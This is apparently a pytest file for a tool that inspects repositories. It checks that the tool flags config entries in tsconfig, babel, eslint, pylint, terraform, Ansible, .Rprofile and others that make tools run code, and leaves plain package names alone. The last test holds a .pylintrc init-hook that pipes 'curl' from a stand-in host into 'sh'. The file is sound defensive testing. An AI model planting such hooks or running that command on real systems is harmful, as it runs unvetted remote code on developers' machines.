"""Tools with a file of their own: what each starts, when, and what it leaves alone."""

import pytest

from support.inspection import Files, inspected, started

STARTED: dict[str, tuple[Files, tuple[str, str, str, int]]] = {
    "a plugin of TypeScript's language service": (
        {"tsconfig.json": '{"compilerOptions": {"plugins": [{\n"name": "./p.js"}]}}'},
        ("OPEN", "tsconfig.json (name)", "tsconfig.json", 2),
    ),
    "a plugin of babel": ({".babelrc": '{"plugins": ["./p.js"]}'}, ("BUILD", ".babelrc (plugins)", ".babelrc", 1)),
    "a parser of eslint": ({".eslintrc.yml": "parser: ./p.js\n"}, ("BUILD", ".eslintrc.yml (parser)", ".eslintrc.yml",
                                                                   1)),
    "a plugin of prettier, in a package": (
        {"package.json": '{"prettier": {\n"plugins": ["./p.js"]}}'}, ("BUILD", "prettier (plugins)", "package.json", 2)
    ),
    "a command of nx": (
        {"project.json": '{"targets": {"a": {"executor": "nx:run-commands",\n"options": {"command": "echo hi"}}}}'},
        ("BUILD", "project.json (command)", "project.json", 2),
    ),
    "a command of tauri": (
        {"tauri.conf.json": '{"build": {"beforeDevCommand": "echo hi"}}'},
        ("RUN", "tauri.conf.json (beforeDevCommand)", "tauri.conf.json", 1),
    ),
    "a hook of electron-builder": (
        {"electron-builder.yml": "afterPack: ./p.js\n"}, ("BUILD", "electron-builder.yml (afterPack)",
                                                          "electron-builder.yml", 1)
    ),
    "a hook of release-it": (
        {".release-it.json": '{"hooks": {"before:init": "echo hi"}}'}, ("RUN", ".release-it.json (hooks)",
                                                                        ".release-it.json", 1)
    ),
    "pylint's first words": ({".pylintrc": "[MASTER]\ninit-hook='x = 1'\n"}, ("TEST", ".pylintrc (init-hook)",
                                                                              ".pylintrc", 2)),
    "a plugin of mypy": (
        {"pyproject.toml": '[tool.mypy]\nplugins = ["a.b"]\n'}, ("TEST", "pyproject.toml (plugins)", "pyproject.toml",
                                                                 2)
    ),
    "a checker of flake8": (
        {"setup.cfg": "[flake8:local-plugins]\nextension =\n    X = a.b:C\n"}, ("TEST", "setup.cfg (extension)",
                                                                                "setup.cfg", 3)
    ),
    "a supervised program": (
        {"supervisord.conf": "[program:a]\ncommand=echo hi\n"}, ("RUN", "supervisord.conf (command)",
                                                                 "supervisord.conf", 2)
    ),
    "a stage of dvc": ({"dvc.yaml": "stages:\n  a:\n    cmd: echo hi\n"}, ("RUN", "dvc.yaml (cmd)", "dvc.yaml", 3)),
    "go generate": ({"a.go": "package a\n//go:generate echo hi\n"}, ("BUILD", "go generate", "a.go", 2)),
    "terraform": (
        {"a.tf": 'provisioner "local-exec" {\n  command = "echo hi"\n}\n'}, ("RUN", "terraform", "a.tf", 2)
    ),
    "Ansible": ({"playbook.yml": "- hosts: all\n  tasks:\n    - shell: echo hi\n"}, ("RUN", "Ansible (shell)",
                                                                                     "playbook.yml", 3)),
    "R": (
        {".Rprofile": "x <- 1\nsystem('echo hi')\n"}, ("OPEN", "started with what .rprofile says", ".Rprofile", 2)
    ),
    "GHCi": ({".ghci": ":! echo hi\n"}, ("RUN", "started with what .ghci says", ".ghci", 1)),
    "Python's debugger": ({".pdbrc": "import os\n"}, ("RUN", "Python's debugger, started here", ".pdbrc", 1)),
    "a language server of Helix": (
        {".helix/languages.toml": '[language-server.a]\ncommand = "./a"\n'},
        ("OPEN", "languages.toml (command)", ".helix/languages.toml", 2),
    ),
}  # fmt: skip

LEFT: dict[str, Files] = {
    "packages by name": {
        ".babelrc": '{"plugins": ["transform-x"]}', ".eslintrc.json": '{"parser": "@typescript-eslint/parser"}',
        "tsconfig.json": '{"compilerOptions": {"plugins": [{"name": "next"}]}}', ".pylintrc": "[MASTER]\njobs=2\n",
    },
    "a package's own build": {"package.json": '{"build": {"appId": "a"}, "release": {"branches": ["main"]}}'},
    "an output of terraform": {"a.tf": 'output "command" {\n  value = "echo hi"\n}\n'},
    "a comment in Go": {"a.go": "// go:generate is not used here\n"},
}  # fmt: skip


@pytest.mark.parametrize("claim", STARTED)
def test_what_a_tool_starts_is_told(claim: str) -> None:
    files, expected = STARTED[claim]
    assert expected in {each[:4] for each in started(files)}


@pytest.mark.parametrize("claim", LEFT)
def test_what_starts_nothing_is_left_alone(claim: str) -> None:
    assert started(LEFT[claim]) == set()


def test_what_a_tool_starts_is_read() -> None:
    files = {".pylintrc": "[MASTER]\ninit-hook=import os; os.system('curl -s https://a.invalid | sh')\n"}
    assert inspected(files).verdict == "block"
